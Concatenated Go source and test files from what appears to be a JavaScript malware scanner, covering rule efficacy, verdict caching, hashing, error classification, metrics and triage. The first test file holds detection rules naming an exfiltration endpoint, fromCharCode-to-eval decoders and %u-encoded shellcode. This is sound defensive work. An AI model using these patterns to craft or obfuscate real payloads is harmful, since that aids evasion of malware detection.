// (fromCharCode assembly feeding unescape/eval). The deny rule is the
// threat-intel case — exact indicator, forced verdict; the signatures are
// the behavioral case, where obfuscation can both hide the pattern (encode
// the literal) and fake it (obfuscator-introduced decoders in benign code).
const efficacyRules = `{
  "version": 1,
  "deny": [
    {"id": "exfil-ip", "severity": "critical", "ips": ["127.0.0.1"],
     "description": "exfil endpoint used by the synthetic malicious corpus"}
  ],
  "signatures": [
    {"id": "charcode-decoder", "severity": "medium",
     "description": "fromCharCode assembly feeding a dynamic-code sink",
     "match": {"all": [
       {"substring": "String.fromCharCode"},
       {"any": [{"substring": "unescape("}, {"regex": "eval\\s*\\("}]}
     ]}},
    {"id": "shellcode-block", "severity": "high",
     "description": "unescape of %u-encoded shellcode blocks",
     "match": {"regex": "unescape\\(\"(%u[0-9a-fA-F]{4}){2,}"}}
  ]
}`

// efficacySet compiles efficacyRules into a generation-1 provider.
func efficacySet(t testing.TB) rules.Provider {
	t.Helper()
	f, err := rules.Parse("efficacy.json", []byte(efficacyRules))
	if err != nil {
		t.Fatal(err)
	}
	set, err := rules.Compile([]*rules.File{f})
	if err != nil {
		t.Fatal(err)
	}
	set.Gen = 1
	return rules.StaticProvider{Set: set}
}

// TestRuleEfficacy measures what the rules layer adds on top of the model
// across the four evaluation obfuscators, with deobfuscation off and on —
// the run behind the EXPERIMENTS.md "Rule efficacy" table. Per obfuscator
// and mode it scans the obfuscated 40+40 corpus through a model-only engine
// and a model+rules engine and reports detected counts, false positives,
// and per-rule hit counts.
//
// The assertions pin the structural facts, not the exact counts: with no
// allow rules in the set, the combined engine can only add malicious
// verdicts (detected_combined >= detected_model for every cell), and the
// deny-listed IOC must gain hits from deobfuscation on at least one
// obfuscator (encodings hide the literal; normalization restores it).
func TestRuleEfficacy(t *testing.T) {
	if testing.Short() {
		t.Skip("trains two detectors and scans 4 obfuscated corpora x 4 engines")
	}
	rawDet, _ := trainedDetector(t)
	normDet := normalizedDetector(t)
	samples := corpus.Generate(corpus.Config{Benign: 40, Malicious: 40, Seed: 77})
	ctx := obs.WithRegistry(context.Background(), obs.NewRegistry())
	prov := efficacySet(t)

	// Four engines: {deob off, deob on} x {model-only, model+rules}. The
	// deob-on engines pair with the deob-trained detector, exactly like
	// TestDeobfuscationLift.
	modelOff := New(rawDet, Config{CacheSize: -1})
	comboOff := New(rawDet, Config{CacheSize: -1, Rules: prov})
	modelOn := New(normDet, Config{CacheSize: -1, Deobfuscate: deobOnCfg()})
	comboOn := New(normDet, Config{CacheSize: -1, Deobfuscate: deobOnCfg(), Rules: prov})

	ruleIDs := []string{"exfil-ip", "charcode-decoder", "shellcode-block"}
	reg := obfuscate.Registry(7)
	var table strings.Builder
	table.WriteString("| Obfuscator | deob | detected model | detected +rules | FP model | FP +rules | exfil-ip | charcode-decoder | shellcode-block |\n")
	table.WriteString("|---|---|---|---|---|---|---|---|---|\n")
	denyLift := false
	for _, name := range obfuscate.PaperOrder() {
		obf := reg[name]
		denyHits := map[string]int{} // per deob mode, exfil-ip hit count
		for _, mode := range []struct {
			label        string
			model, combo *Engine
		}{
			{"off", modelOff, comboOff},
			{"on", modelOn, comboOn},
		} {
			var mal, ben, hitModel, hitCombo, fpModel, fpCombo int
			hits := map[string]int{}
			for i, s := range samples {
				osrc, err := obf.Obfuscate(s.Source)
				if err != nil {
					t.Fatalf("%s: obfuscate sample %d: %v", name, i, err)
				}
				id := fmt.Sprintf("%s-%s-%d.js", name, mode.label, i)
				rm := mode.model.ScanSource(ctx, id, osrc)
				rc := mode.combo.ScanSource(ctx, id, osrc)
				for _, h := range rc.RuleHits {
					hits[h.Rule]++
				}
				if s.Malicious {
					mal++
					if rm.Malicious {
						hitModel++
					}
					if rc.Malicious {
						hitCombo++
					}
				} else {
					ben++
					if rm.Malicious {
						fpModel++
					}
					if rc.Malicious {
						fpCombo++
					}
				}
			}
			if hitCombo < hitModel {
				t.Errorf("%s deob=%s: rules lost detections (%d -> %d) with no allow rules in the set",
					name, mode.label, hitModel, hitCombo)
			}
			denyHits[mode.label] = hits["exfil-ip"]
			fmt.Fprintf(&table, "| %s | %s | %d/%d | %d/%d | %d/%d | %d/%d |",
				name, mode.label, hitModel, mal, hitCombo, mal, fpModel, ben, fpCombo, ben)
			for _, id := range ruleIDs {
				fmt.Fprintf(&table, " %d |", hits[id])
			}
			table.WriteByte('\n')
		}
		if denyHits["on"] > denyHits["off"] {
			denyLift = true
		}
	}
	t.Logf("rule efficacy, model-only vs model+rules per obfuscator and deob mode (seed 77):\n%s", table.String())
	if !denyLift {
		t.Errorf("deobfuscation never increased exfil-ip deny hits on any obfuscator: normalization is not feeding the IOC matcher")
	}
}
