package scan

import (
	"strings"
	"testing"
)

// TestXXH64KnownVectors pins the seed-0 reference vectors of the XXH64
// specification.
func TestXXH64KnownVectors(t *testing.T) {
	for _, c := range []struct {
		in   string
		want uint64
	}{
		{"", 0xef46db3751d8e999},
		{"abc", 0x44bc2cf5ad770999},
	} {
		if got := contentHash(c.in); got != c.want {
			t.Errorf("contentHash(%q) = %#x, want %#x", c.in, got, c.want)
		}
	}
}

// TestContentHashLengthBoundaries walks every interesting input length
// across the 4/8/32-byte processing boundaries and checks basic hash
// hygiene: deterministic, and distinct for distinct inputs (no collisions
// in this tiny, structured family).
func TestContentHashLengthBoundaries(t *testing.T) {
	seen := make(map[uint64]int)
	for n := 0; n <= 100; n++ {
		in := strings.Repeat("x", n)
		if n > 0 {
			in = in[:n-1] + string(rune('a'+n%26))
		}
		h := contentHash(in)
		if h != contentHash(in) {
			t.Fatalf("len %d: hash not deterministic", n)
		}
		if prev, dup := seen[h]; dup {
			t.Fatalf("len %d collides with len %d", n, prev)
		}
		seen[h] = n
	}
}

// TestContentHashPrefixSensitivity: a one-byte change anywhere must change
// the digest (true for any decent hash on such small families).
func TestContentHashPrefixSensitivity(t *testing.T) {
	base := strings.Repeat("function a(){return 1;}\n", 8)
	want := contentHash(base)
	for i := 0; i < len(base); i += 7 {
		mut := base[:i] + "#" + base[i+1:]
		if contentHash(mut) == want {
			t.Fatalf("flipping byte %d did not change the hash", i)
		}
	}
}

// BenchmarkContentHash measures hashing throughput on a typical script.
func BenchmarkContentHash(b *testing.B) {
	src := strings.Repeat("var x = document.createElement('script');\n", 200)
	b.SetBytes(int64(len(src)))
	b.ReportAllocs()
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		if contentHash(src) == 0 {
			b.Fatal("zero hash")
		}
	}
}
