package scan

import (
	"context"
	"fmt"
	"os"
	"path/filepath"
	"testing"
	"time"

	"jsrevealer/internal/obs"
)

// TestVerdictCacheLRU unit-tests the bounded LRU: eviction order, recency
// refresh on get, and in-place update on duplicate put.
func TestVerdictCacheLRU(t *testing.T) {
	c := newVerdictCache(2)
	k := func(i int) cacheKey {
		var key cacheKey
		key[0], key[1] = byte(i), byte(i>>8)
		return key
	}

	c.put(k(1), VerdictBenign, false, TierPipeline, false, 0, nil)
	c.put(k(2), VerdictMalicious, true, TierPipeline, false, 0, nil)
	if _, ok := c.get(k(1)); !ok {
		t.Fatal("k1 missing before capacity exceeded")
	}
	// k1 was just refreshed, so inserting k3 must evict k2.
	c.put(k(3), VerdictBenign, false, TierPipeline, false, 0, nil)
	if _, ok := c.get(k(2)); ok {
		t.Fatal("k2 survived eviction despite being least recently used")
	}
	if _, ok := c.get(k(1)); !ok {
		t.Fatal("k1 evicted despite being recently used")
	}
	if ent, ok := c.get(k(3)); !ok || ent.verdict != VerdictBenign || ent.malicious {
		t.Fatalf("k3 = (%v, %v, %v), want (benign, false, true)", ent.verdict, ent.malicious, ok)
	}
	// Duplicate put updates in place without growing.
	c.put(k(3), VerdictMalicious, true, TierPipeline, true, 0, nil)
	if ent, ok := c.get(k(3)); !ok || ent.verdict != VerdictMalicious || !ent.malicious || !ent.deob {
		t.Fatalf("k3 after update = (%v, %v, %v, deob=%v), want (malicious, true, true, true)",
			ent.verdict, ent.malicious, ok, ent.deob)
	}
	if c.Len() != 2 {
		t.Fatalf("Len = %d, want 2", c.Len())
	}
}

// TestScanSourceCacheHit: rescanning identical content must be answered from
// the cache with an identical verdict, and the hit/miss counters must land
// in the scan context's registry.
func TestScanSourceCacheHit(t *testing.T) {
	det, samples := trainedDetector(t)
	reg := obs.NewRegistry()
	ctx := obs.WithRegistry(context.Background(), reg)
	eng := New(det, Config{})

	first := eng.ScanSource(ctx, "a.js", samples[0].Source)
	if first.Err != nil {
		t.Fatalf("first scan: %v", first.Err)
	}
	second := eng.ScanSource(ctx, "b.js", samples[0].Source)
	if second.Verdict != first.Verdict || second.Malicious != first.Malicious {
		t.Fatalf("cached verdict (%v, %v) != cold verdict (%v, %v)",
			second.Verdict, second.Malicious, first.Verdict, first.Malicious)
	}
	if hits := reg.Counter(CacheHitsMetric, "", nil).Value(); hits != 1 {
		t.Errorf("cache hits = %d, want 1", hits)
	}
	if misses := reg.Counter(CacheMissesMetric, "", nil).Value(); misses != 1 {
		t.Errorf("cache misses = %d, want 1", misses)
	}
	// Different content must miss.
	if res := eng.ScanSource(ctx, "c.js", samples[1].Source); res.Err != nil {
		t.Fatalf("third scan: %v", res.Err)
	}
	if misses := reg.Counter(CacheMissesMetric, "", nil).Value(); misses != 2 {
		t.Errorf("cache misses after distinct content = %d, want 2", misses)
	}
}

// TestScanSourceCacheDisabled: CacheSize < 0 must bypass the cache entirely —
// no cached answers, no hit/miss accounting.
func TestScanSourceCacheDisabled(t *testing.T) {
	det, samples := trainedDetector(t)
	reg := obs.NewRegistry()
	ctx := obs.WithRegistry(context.Background(), reg)
	eng := New(det, Config{CacheSize: -1})
	if eng.cache != nil {
		t.Fatal("cache allocated despite CacheSize < 0")
	}
	for i := 0; i < 2; i++ {
		if res := eng.ScanSource(ctx, "a.js", samples[0].Source); res.Err != nil {
			t.Fatalf("scan %d: %v", i, res.Err)
		}
	}
	if hits := reg.Counter(CacheHitsMetric, "", nil).Value(); hits != 0 {
		t.Errorf("cache hits = %d with cache disabled, want 0", hits)
	}
	if misses := reg.Counter(CacheMissesMetric, "", nil).Value(); misses != 0 {
		t.Errorf("cache misses = %d with cache disabled, want 0", misses)
	}
}

// TestDegradedResultsNotCached: a degraded verdict depends on transient
// conditions (here a deadline), so it must be recomputed every time — the
// cache stores only clean verdicts.
func TestDegradedResultsNotCached(t *testing.T) {
	det, _ := trainedDetector(t)
	reg := obs.NewRegistry()
	ctx := obs.WithRegistry(context.Background(), reg)
	eng := New(&markedSlow{det: det}, Config{Timeout: 50 * time.Millisecond})

	src := slowMarker + "\nvar a = 1;"
	for i := 0; i < 2; i++ {
		res := eng.ScanSource(ctx, "slow.js", src)
		if res.Verdict != VerdictDegraded {
			t.Fatalf("scan %d: verdict = %v, want degraded", i, res.Verdict)
		}
	}
	if hits := reg.Counter(CacheHitsMetric, "", nil).Value(); hits != 0 {
		t.Errorf("cache hits = %d, want 0 (degraded results must not be cached)", hits)
	}
	if misses := reg.Counter(CacheMissesMetric, "", nil).Value(); misses != 2 {
		t.Errorf("cache misses = %d, want 2", misses)
	}
	if eng.cache.Len() != 0 {
		t.Errorf("cache holds %d entries after degraded-only scans, want 0", eng.cache.Len())
	}
}

// TestScanManyIdenticalFiles is the pathological cache scenario from the
// issue: a directory of byte-identical files scanned through the worker
// pool. Verdicts must all agree, every scan must be either a hit or a miss,
// and after a first pass primed the cache, a second pass must be all hits.
// Run with -race this also exercises the cache under real concurrency.
func TestScanManyIdenticalFiles(t *testing.T) {
	det, samples := trainedDetector(t)
	dir := t.TempDir()
	const n = 64
	paths := make([]string, n)
	for i := range paths {
		paths[i] = filepath.Join(dir, fmt.Sprintf("dup-%02d.js", i))
		if err := os.WriteFile(paths[i], []byte(samples[0].Source), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	reg := obs.NewRegistry()
	ctx := obs.WithRegistry(context.Background(), reg)
	eng := New(det, Config{Workers: 8})

	results, stats := eng.ScanFiles(ctx, paths)
	if stats.Failed != 0 || stats.Degraded != 0 {
		t.Fatalf("stats = %+v, want all clean", stats)
	}
	for _, r := range results {
		if r.Verdict != results[0].Verdict || r.Malicious != results[0].Malicious {
			t.Fatalf("%s: verdict (%v, %v) differs from first (%v, %v)",
				r.Path, r.Verdict, r.Malicious, results[0].Verdict, results[0].Malicious)
		}
	}
	hits := reg.Counter(CacheHitsMetric, "", nil).Value()
	misses := reg.Counter(CacheMissesMetric, "", nil).Value()
	// Several workers may race to classify the same content before any of
	// them completes and fills the cache, so misses can exceed 1 — but every
	// file is exactly one of hit or miss.
	if hits+misses != n {
		t.Fatalf("hits (%d) + misses (%d) = %d, want %d", hits, misses, hits+misses, n)
	}
	if misses > 8 {
		t.Errorf("misses = %d, want at most one per worker (8)", misses)
	}

	// Second pass over the primed cache: all hits.
	if _, stats := eng.ScanFiles(ctx, paths); stats.Failed != 0 {
		t.Fatalf("second pass failed: %+v", stats)
	}
	if got := reg.Counter(CacheHitsMetric, "", nil).Value(); got != hits+n {
		t.Errorf("second-pass hits = %d, want %d (all %d files)", got-hits, n, n)
	}
}
