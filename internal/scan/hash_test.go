package scan

import (
	"crypto/sha256"
	"strings"
	"testing"
)

// TestContentKeyMatchesSHA256 pins contentKey to the stdlib digest of a
// copied byte slice — the zero-copy aliasing must never change the result.
func TestContentKeyMatchesSHA256(t *testing.T) {
	for _, in := range []string{
		"",
		"a",
		"abc",
		strings.Repeat("x", 31),
		strings.Repeat("x", 32),
		strings.Repeat("function a(){return 1;}\n", 64),
		"var x = \x00\xff\xfe binary-ish ☃",
	} {
		want := cacheKey(sha256.Sum256([]byte(in)))
		if got := contentKey(in); got != want {
			t.Errorf("contentKey(%q) = %x, want %x", in, got, want)
		}
	}
}

// TestContentKeySubstringAliasing: contentKey is routinely called on
// substrings (truncated prefixes for oversized inputs), so digesting a slice
// of a larger string must equal digesting an independent copy.
func TestContentKeySubstringAliasing(t *testing.T) {
	base := strings.Repeat("var x = document.createElement('script');\n", 16)
	for _, end := range []int{1, 7, len(base) / 2, len(base)} {
		sub := base[:end]
		want := cacheKey(sha256.Sum256([]byte(sub)))
		if got := contentKey(sub); got != want {
			t.Errorf("contentKey(base[:%d]) = %x, want %x", end, got, want)
		}
	}
}

// TestContentKeyPrefixSensitivity: a one-byte change anywhere must change
// the digest.
func TestContentKeyPrefixSensitivity(t *testing.T) {
	base := strings.Repeat("function a(){return 1;}\n", 8)
	want := contentKey(base)
	for i := 0; i < len(base); i += 7 {
		mut := base[:i] + "#" + base[i+1:]
		if contentKey(mut) == want {
			t.Fatalf("flipping byte %d did not change the digest", i)
		}
	}
}

// BenchmarkContentHash measures cache-key digest throughput on a typical
// script (the name predates the SHA-256 switch; kept so BENCH_scan.json
// history lines up).
func BenchmarkContentHash(b *testing.B) {
	src := strings.Repeat("var x = document.createElement('script');\n", 200)
	b.SetBytes(int64(len(src)))
	b.ReportAllocs()
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		if contentKey(src) == (cacheKey{}) {
			b.Fatal("zero digest")
		}
	}
}
