package scan

import (
	"context"
	"errors"
	"fmt"

	"jsrevealer/internal/js/lexer"
	"jsrevealer/internal/js/parser"
)

// The structured error taxonomy of the scan engine. Every Result.Err wraps
// exactly one of these sentinels (match with errors.Is); the concrete cause
// is preserved in the wrapped message.
var (
	// ErrParse marks input the lexer or parser rejected as malformed.
	ErrParse = errors.New("parse failed")
	// ErrDepthLimit marks input that exceeded the parser's recursion-depth
	// budget (e.g. tens of thousands of nested parentheses).
	ErrDepthLimit = errors.New("recursion depth limit exceeded")
	// ErrTimeout marks a file whose per-file deadline expired.
	ErrTimeout = errors.New("per-file deadline exceeded")
	// ErrTooLarge marks input rejected by a size guard (file bytes or
	// token count).
	ErrTooLarge = errors.New("input exceeds size limits")
	// ErrInternal marks unexpected pipeline failures, including recovered
	// panics and unreadable files.
	ErrInternal = errors.New("internal pipeline failure")
)

// Reason maps a Result.Err onto its taxonomy label — the `reason` label of
// the scan error metrics and the key of Stats' per-taxonomy counts. It
// returns "" for nil and "internal" for errors outside the taxonomy (which
// Result.Err never carries, but callers may pass arbitrary errors).
func Reason(err error) string {
	switch {
	case err == nil:
		return ""
	case errors.Is(err, ErrParse):
		return "parse"
	case errors.Is(err, ErrDepthLimit):
		return "depth_limit"
	case errors.Is(err, ErrTimeout):
		return "timeout"
	case errors.Is(err, ErrTooLarge):
		return "too_large"
	default:
		return "internal"
	}
}

// classifyError maps an error escaping the detection pipeline onto the
// taxonomy. ctx is the per-file context: when it has expired, cooperative
// cancellation errors surfacing from any stage are reported as timeouts.
func classifyError(err error, ctx context.Context) error {
	switch {
	case err == nil:
		return nil
	case errors.Is(err, parser.ErrTooDeep):
		return fmt.Errorf("%w: %v", ErrDepthLimit, err)
	case errors.Is(err, lexer.ErrTooManyTokens):
		return fmt.Errorf("%w: %v", ErrTooLarge, err)
	case errors.Is(err, parser.ErrCancelled),
		errors.Is(err, context.DeadlineExceeded),
		errors.Is(err, context.Canceled):
		return fmt.Errorf("%w: %v", ErrTimeout, err)
	}
	// A cooperative stage may surface its own error type after noticing
	// cancellation; attribute it to the deadline when the context is done.
	if ctx != nil && ctx.Err() != nil {
		return fmt.Errorf("%w: %v", ErrTimeout, err)
	}
	var pe *parser.ParseError
	var se *lexer.SyntaxError
	if errors.As(err, &pe) || errors.As(err, &se) {
		return fmt.Errorf("%w: %v", ErrParse, err)
	}
	return fmt.Errorf("%w: %v", ErrInternal, err)
}
