package scan

import (
	"jsrevealer/internal/alert"
	"jsrevealer/internal/deobfuscate"
	"jsrevealer/internal/obs"
	"jsrevealer/internal/rules"
)

// Metric families emitted by the engine. They land in the registry carried
// by the scan's context (obs.Default() otherwise), which is what
// `jsrevealer serve` exposes on /metrics.
const (
	// FilesMetric counts finished files by verdict
	// (benign|malicious|degraded|failed).
	FilesMetric = "jsrevealer_scan_files_total"
	// ErrorsMetric counts degraded/failed files by taxonomy reason
	// (parse|timeout|too_large|depth_limit|internal).
	ErrorsMetric = "jsrevealer_scan_errors_total"
	// FileDurationMetric is the per-file wall-time histogram, fallback
	// included.
	FileDurationMetric = "jsrevealer_scan_file_duration_seconds"
	// QueueWaitMetric is the time a file sat enqueued before a worker
	// picked it up, the engine's backpressure signal.
	QueueWaitMetric = "jsrevealer_scan_queue_wait_seconds"
	// BytesMetric counts input bytes submitted for scanning.
	BytesMetric = "jsrevealer_scan_bytes_total"
	// InflightMetric gauges files currently being classified.
	InflightMetric = "jsrevealer_scan_inflight"
	// CacheHitsMetric counts scans answered from the verdict cache.
	CacheHitsMetric = "jsrevealer_cache_hits_total"
	// CacheMissesMetric counts scans that ran the full pipeline because the
	// verdict cache had no entry (or is disabled).
	CacheMissesMetric = "jsrevealer_cache_misses_total"
	// TierMetric counts finished files by the tier that produced the
	// verdict (triage|rules|pipeline|cache|fallback|none). The
	// triage:pipeline ratio is the clear rate — how much of the corpus the
	// cheap tier absorbed.
	TierMetric = "jsrevealer_scan_tier_total"
	// TierDurationMetric is the per-file wall-time histogram split by tier,
	// making the cost asymmetry between triage clears (microseconds) and
	// full-pipeline scans (milliseconds) directly visible.
	TierDurationMetric = "jsrevealer_scan_tier_duration_seconds"
)

// verdictLabels maps Verdict to its metric label (Verdict.String shouts
// for CLI output; labels stay lowercase).
var verdictLabels = [...]string{
	VerdictBenign:    "benign",
	VerdictMalicious: "malicious",
	VerdictDegraded:  "degraded",
	VerdictFailed:    "failed",
}

// errorReasons is the closed set Reason can return for non-nil errors.
var errorReasons = []string{"parse", "timeout", "too_large", "depth_limit", "internal"}

// tierLabels is the closed set of Result.Tier values (see tier.go).
var tierLabels = []string{TierTriage, TierRules, TierPipeline, TierCache, TierFallback, TierNone}

// RegisterMetrics pre-creates every scan metric series in reg (all verdict
// and reason label values, zero-valued), so an exposition endpoint shows
// the full metric surface before the first scan.
func RegisterMetrics(reg *obs.Registry) {
	newInstruments(reg)
	deobfuscate.RegisterMetrics(reg)
	rules.RegisterMetrics(reg)
	alert.RegisterMetrics(reg)
}

// instruments caches the engine's metric series for one scan so the per-
// file hot path pays pointer derefs, not registry lookups.
type instruments struct {
	verdicts [len(verdictLabels)]*obs.Counter
	reasons  map[string]*obs.Counter
	duration *obs.Histogram
	wait     *obs.Histogram
	bytes    *obs.Counter
	inflight *obs.Gauge
	cacheHit *obs.Counter
	cacheMis *obs.Counter
	tiers    map[string]*obs.Counter
	tierDur  map[string]*obs.Histogram
}

func newInstruments(reg *obs.Registry) *instruments {
	ins := &instruments{
		reasons: make(map[string]*obs.Counter, len(errorReasons)),
		duration: reg.Histogram(FileDurationMetric,
			"Per-file scan wall time in seconds, fallback included.",
			obs.DefDurationBuckets, nil),
		wait: reg.Histogram(QueueWaitMetric,
			"Seconds a file waited in the scan queue before a worker picked it up.",
			obs.DefDurationBuckets, nil),
		bytes: reg.Counter(BytesMetric, "Input bytes submitted for scanning.", nil),
		inflight: reg.Gauge(InflightMetric,
			"Files currently being classified.", nil),
		cacheHit: reg.Counter(CacheHitsMetric,
			"Scans answered from the verdict cache.", nil),
		cacheMis: reg.Counter(CacheMissesMetric,
			"Scans that ran the full pipeline (verdict cache miss or disabled).", nil),
	}
	for v, label := range verdictLabels {
		ins.verdicts[v] = reg.Counter(FilesMetric,
			"Files scanned by verdict.", obs.Labels{"verdict": label})
	}
	for _, reason := range errorReasons {
		ins.reasons[reason] = reg.Counter(ErrorsMetric,
			"Degraded or failed files by taxonomy reason.", obs.Labels{"reason": reason})
	}
	ins.tiers = make(map[string]*obs.Counter, len(tierLabels))
	ins.tierDur = make(map[string]*obs.Histogram, len(tierLabels))
	for _, tier := range tierLabels {
		ins.tiers[tier] = reg.Counter(TierMetric,
			"Files scanned by the tier that produced the verdict.",
			obs.Labels{"tier": tier})
		ins.tierDur[tier] = reg.Histogram(TierDurationMetric,
			"Per-file scan wall time in seconds, split by producing tier.",
			obs.DefDurationBuckets, obs.Labels{"tier": tier})
	}
	return ins
}

// observe records one finished file.
func (ins *instruments) observe(r Result) {
	ins.duration.ObserveDuration(r.Duration)
	ins.bytes.Add(r.Bytes)
	if int(r.Verdict) < len(ins.verdicts) {
		ins.verdicts[r.Verdict].Inc()
	}
	if reason := Reason(r.Err); reason != "" {
		ins.reasons[reason].Inc()
	}
	if c, ok := ins.tiers[r.Tier]; ok {
		c.Inc()
		ins.tierDur[r.Tier].ObserveDuration(r.Duration)
	}
}
