package scan

import "math/bits"

// XXH64 (seed 0), implemented inline over string bytes so hashing a script
// for the verdict cache allocates nothing and runs at ~8 bytes per
// multiply. The dependency-free implementation follows the public XXH64
// specification; TestXXH64KnownVectors pins the reference test vectors.
const (
	xxPrime1 = 11400714785074694791
	xxPrime2 = 14029467366897019727
	xxPrime3 = 1609587929392839161
	xxPrime4 = 9650029242287828579
	xxPrime5 = 2870177450012600261
)

// contentHash returns the XXH64 digest of s with seed 0.
func contentHash(s string) uint64 {
	n := len(s)
	var h uint64
	i := 0
	if n >= 32 {
		// Accumulator seeds (seed 0); computed on variables because the
		// wrapped sums overflow as constant expressions.
		var v1, v2, v3, v4 uint64 = xxPrime1, xxPrime2, 0, 0
		v1 += xxPrime2
		v4 -= xxPrime1
		for ; i+32 <= n; i += 32 {
			v1 = xxRound(v1, le64(s, i))
			v2 = xxRound(v2, le64(s, i+8))
			v3 = xxRound(v3, le64(s, i+16))
			v4 = xxRound(v4, le64(s, i+24))
		}
		h = bits.RotateLeft64(v1, 1) + bits.RotateLeft64(v2, 7) +
			bits.RotateLeft64(v3, 12) + bits.RotateLeft64(v4, 18)
		h = xxMergeRound(h, v1)
		h = xxMergeRound(h, v2)
		h = xxMergeRound(h, v3)
		h = xxMergeRound(h, v4)
	} else {
		h = xxPrime5
	}
	h += uint64(n)
	for ; i+8 <= n; i += 8 {
		h ^= xxRound(0, le64(s, i))
		h = bits.RotateLeft64(h, 27)*xxPrime1 + xxPrime4
	}
	if i+4 <= n {
		h ^= uint64(le32(s, i)) * xxPrime1
		h = bits.RotateLeft64(h, 23)*xxPrime2 + xxPrime3
		i += 4
	}
	for ; i < n; i++ {
		h ^= uint64(s[i]) * xxPrime5
		h = bits.RotateLeft64(h, 11) * xxPrime1
	}
	h ^= h >> 33
	h *= xxPrime2
	h ^= h >> 29
	h *= xxPrime3
	h ^= h >> 32
	return h
}

func xxRound(acc, lane uint64) uint64 {
	return bits.RotateLeft64(acc+lane*xxPrime2, 31) * xxPrime1
}

func xxMergeRound(h, v uint64) uint64 {
	return (h^xxRound(0, v))*xxPrime1 + xxPrime4
}

// le64 reads 8 little-endian bytes of s at offset i; the bounds-check
// pattern compiles to a single load.
func le64(s string, i int) uint64 {
	_ = s[i+7]
	return uint64(s[i]) | uint64(s[i+1])<<8 | uint64(s[i+2])<<16 | uint64(s[i+3])<<24 |
		uint64(s[i+4])<<32 | uint64(s[i+5])<<40 | uint64(s[i+6])<<48 | uint64(s[i+7])<<56
}

// le32 reads 4 little-endian bytes of s at offset i.
func le32(s string, i int) uint32 {
	_ = s[i+3]
	return uint32(s[i]) | uint32(s[i+1])<<8 | uint32(s[i+2])<<16 | uint32(s[i+3])<<24
}
