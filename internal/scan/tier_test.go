package scan

import (
	"context"
	"errors"
	"fmt"
	"os"
	"path/filepath"
	"sync"
	"sync/atomic"
	"testing"

	"jsrevealer/internal/corpus"
	"jsrevealer/internal/js/parser"
	"jsrevealer/internal/obs"
	"jsrevealer/internal/triage"
)

// triageOn is the engine config knob for the default triage tier.
func triageOn() triage.Config {
	return triage.Config{Threshold: triage.DefaultThreshold}
}

// clearableBenign returns pristine benign corpus sources that the default
// triage scorer clears — deterministic inputs for the short-circuit path.
func clearableBenign(t testing.TB, n int) []string {
	t.Helper()
	sc := triage.New(triageOn())
	var out []string
	for seed := int64(1); len(out) < n && seed < 50; seed++ {
		for _, s := range corpus.Generate(corpus.Config{Benign: 20, Seed: seed, Pristine: true}) {
			if sc.Clear(s.Source) {
				out = append(out, s.Source)
				if len(out) == n {
					break
				}
			}
		}
	}
	if len(out) < n {
		t.Fatalf("only %d of %d pristine benign samples clear triage", len(out), n)
	}
	return out
}

// TestTriageClearsBenign: with the triage tier enabled, a plainly benign
// script short-circuits to a benign verdict tagged TierTriage — the full
// pipeline must never run. Counters, stats, and the tier metric all have to
// agree.
func TestTriageClearsBenign(t *testing.T) {
	var pipelineRuns int64
	counting := ClassifierFunc(func(ctx context.Context, src string) (bool, error) {
		atomic.AddInt64(&pipelineRuns, 1)
		return false, nil
	})
	reg := obs.NewRegistry()
	ctx := obs.WithRegistry(context.Background(), reg)
	eng := New(counting, Config{Workers: 2, Triage: triageOn()})

	srcs := clearableBenign(t, 4)
	var sources []Source
	for i, s := range srcs {
		sources = append(sources, Source{Name: fmt.Sprintf("benign-%d.js", i), Content: s})
	}
	var mu sync.Mutex
	var results []Result
	stats := eng.ScanSources(ctx, sources, func(r Result) {
		mu.Lock()
		results = append(results, r)
		mu.Unlock()
	})
	if got := atomic.LoadInt64(&pipelineRuns); got != 0 {
		t.Fatalf("pipeline ran %d times, want 0 (triage should clear everything)", got)
	}
	if stats.Triaged != len(srcs) {
		t.Errorf("Stats.Triaged = %d, want %d", stats.Triaged, len(srcs))
	}
	for _, r := range results {
		if r.Verdict != VerdictBenign || r.Malicious || r.Err != nil {
			t.Errorf("%s: result = %+v, want clean benign", r.Path, r)
		}
		if r.Tier != TierTriage {
			t.Errorf("%s: tier = %q, want %q", r.Path, r.Tier, TierTriage)
		}
	}
	if got := reg.Counter(TierMetric, "", obs.Labels{"tier": TierTriage}).Value(); got != int64(len(srcs)) {
		t.Errorf("tier counter{triage} = %d, want %d", got, len(srcs))
	}
	if got := reg.Counter(TierMetric, "", obs.Labels{"tier": TierPipeline}).Value(); got != 0 {
		t.Errorf("tier counter{pipeline} = %d, want 0", got)
	}
	if n := reg.Histogram(TierDurationMetric, "", nil, obs.Labels{"tier": TierTriage}).Count(); n != uint64(len(srcs)) {
		t.Errorf("tier duration{triage} observations = %d, want %d", n, len(srcs))
	}
}

// TestTriageNeverClearsMalicious: on a full mixed corpus, triage-enabled and
// triage-disabled engines must agree on every verdict, and no malicious
// script may carry the triage tier — triage only ever short-circuits to
// benign, so a wrong clear would surface here as a verdict flip.
func TestTriageNeverClearsMalicious(t *testing.T) {
	det, _ := trainedDetector(t)
	samples := corpus.Generate(corpus.Config{Benign: 20, Malicious: 20, Seed: 29})
	plain := New(det, Config{Workers: 4, CacheSize: -1})
	tiered := New(det, Config{Workers: 4, CacheSize: -1, Triage: triageOn()})
	ctx := obs.WithRegistry(context.Background(), obs.NewRegistry())
	for i, s := range samples {
		want := plain.ScanSource(ctx, fmt.Sprintf("s%d.js", i), s.Source)
		got := tiered.ScanSource(ctx, fmt.Sprintf("s%d.js", i), s.Source)
		if got.Verdict != want.Verdict || got.Malicious != want.Malicious {
			t.Errorf("sample %d (malicious=%v): tiered=(%v,%v) plain=(%v,%v) tier=%s",
				i, s.Malicious, got.Verdict, got.Malicious, want.Verdict, want.Malicious, got.Tier)
		}
		if s.Malicious && got.Tier == TierTriage {
			t.Errorf("sample %d: malicious script cleared by triage", i)
		}
	}
}

// TestTriageDisabledByDefault: the zero config keeps today's behavior —
// no triage scorer, every verdict comes from the pipeline.
func TestTriageDisabledByDefault(t *testing.T) {
	eng := New(ClassifierFunc(func(ctx context.Context, src string) (bool, error) {
		return false, nil
	}), Config{})
	if eng.triage != nil {
		t.Fatal("triage scorer allocated with zero config")
	}
	src := clearableBenign(t, 1)[0]
	res := eng.ScanSource(obs.WithRegistry(context.Background(), obs.NewRegistry()), "a.js", src)
	if res.Tier != TierPipeline {
		t.Errorf("tier = %q, want %q with triage disabled", res.Tier, TierPipeline)
	}
	if res.Verdict != VerdictBenign {
		t.Errorf("verdict = %v", res.Verdict)
	}
}
